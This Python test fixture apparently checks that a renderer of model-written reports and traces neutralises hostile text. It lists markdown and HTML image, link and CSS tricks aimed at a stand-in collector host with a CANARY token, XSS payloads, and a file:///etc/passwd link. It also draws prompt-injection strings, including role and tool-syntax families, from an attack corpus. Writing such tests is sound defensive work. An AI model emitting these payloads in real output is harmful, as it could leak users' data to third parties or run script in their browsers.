"""Reports that strangers have written into wherever they can."""

from datetime import UTC, datetime, timedelta
from typing import Final

from chargehand.contracts import Report, Source, Step, Trace
from tests.security.corpus import ATTACKS
from tests.unit.strategies import filled

ELSEWHERE: Final = "http://collector.example/?d=CANARY"
READ: Final = "https://read.example/page?a=1&b=2"
_START: Final = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
_TEXTS: Final = [
    attack.text.replace("{url}", ELSEWHERE).replace("{collector}", "collector.example")
    for attack in ATTACKS
    if attack.family in {"markup", "end marks", "tool syntax", "addresses", "roles"}
]
_TRICKS: Final = [
    f"![x]({ELSEWHERE} 'y')",
    f"![x\n\n]({ELSEWHERE})",
    f"[x\\]({ELSEWHERE})",
    f"\\[x]({ELSEWHERE})",
    f"\\![x]({ELSEWHERE})",
    f"[a\nb]:\n{ELSEWHERE}\n\n![a b]",
    f"> [r]: {ELSEWHERE}\n\n- ![r][]",
    f"[![x]({ELSEWHERE})]({READ})",
    f"[x]({READ}\n{ELSEWHERE})",
    f"[{READ}]({ELSEWHERE})",
    f"[x]({READ}@collector.example/?d=CANARY)",
    f"[x](<{ELSEWHERE}>)",
    f"[x](\n{ELSEWHERE}\n)",
    f"<a href={ELSEWHERE}>[S1]</a>",
    f"<!-- {ELSEWHERE} --><![CDATA[<img src={ELSEWHERE}>]]>",
    f"<\nimg src={ELSEWHERE}>",
    f"&#60;img src={ELSEWHERE}&#62;",
    "[x](&#104;ttp://collector.example/)",
    "[x](//collector.example/)",
    "[x](mailto:a@collector.example?body=CANARY)",
    "[x](vbscript:1) [y](JaVaScRiPt:1) [z](file:///etc/passwd)",
    f"~~~\n<img src={ELSEWHERE}>\n~~~\n<img src={ELSEWHERE}>",
    f"    ![x]({ELSEWHERE})\n![x]({ELSEWHERE})",
    f"<style>@import '{ELSEWHERE}';</style>",
    f"</style><link href={ELSEWHERE} rel=stylesheet>",
    f"</title></head><img src={ELSEWHERE}>",
    f"' style='background:url({ELSEWHERE})' x='",
    "<script>console.log('ran')</script>",
    "<img src=x onerror=console.log('ran')>",
    "<svg><animate onbegin=console.log('ran') attributeName=x dur=1s>",
    "<details open ontoggle=console.log('ran')>",
    "<iframe srcdoc=\"<script>parent.console.log('ran')</script>\"></iframe>",
    "[x](javascript:console.log('ran')) <javascript:console.log('ran')>",
    "[x](data:text/html,<script>console.log('ran')</script>)",
    f"$\\href{{{ELSEWHERE}}}{{[S1]}}$ and \\(\\\\\\href{{{ELSEWHERE}}}{{x}}\\)",
    f"$$\\let\\x\\href \\x{{{ELSEWHERE}}}{{y}} \\style{{background:url({ELSEWHERE})}}{{z}}$$",
    f'```mermaid\nflowchart LR\n  A@{{ img: "{ELSEWHERE}" }}\n  click A "{ELSEWHERE}"\n```',
    f"- > ~~~ {{.Mermaid}}\n  > A[<img src={ELSEWHERE}>]\n\r```plantuml\n[[{ELSEWHERE}]]\n```\n::: mermaid\ngraph\n:::",
    f"```{{image}} {ELSEWHERE}\n```\n:::{{image}} {ELSEWHERE}\n:::\n```geojson\n{{}}\n```",
    "An open block:\n\n```python\nprint()",
]
HOSTILE: Final = (*_TEXTS, *_TRICKS)
"""Texts that would load something, run something or lead somewhere."""


def hostile_report(text: str) -> Report:
    """Put a text into every field of a report that a model, a page or a document can write."""
    sources = (Source(ref=READ, title=text, url=READ, quote=text), Source(ref=text, title=text, url=text, quote=text))
    answer = f"See [here]({READ}).\n\n{text}\n\nThat is all [S1]."
    report = filled(Report, text, ours=("limit", "language"))
    return report.model_copy(update={"answer": answer, "sources": sources})


def hostile_trace(text: str) -> Trace:
    """Put a text into every word of a trace that a model can write."""
    step = filled(Step, text).model_copy(update={"started_at": _START, "ended_at": _START + timedelta(seconds=9)})
    places = (("s", None, "session"), ("t", "s", "subtask"), ("c", "t", "turn"))
    steps = tuple(step.model_copy(update={"id": id_, "parent": parent, "kind": kind}) for id_, parent, kind in places)
    return Trace(session=text, exported_at=step.ended_at, steps=steps)
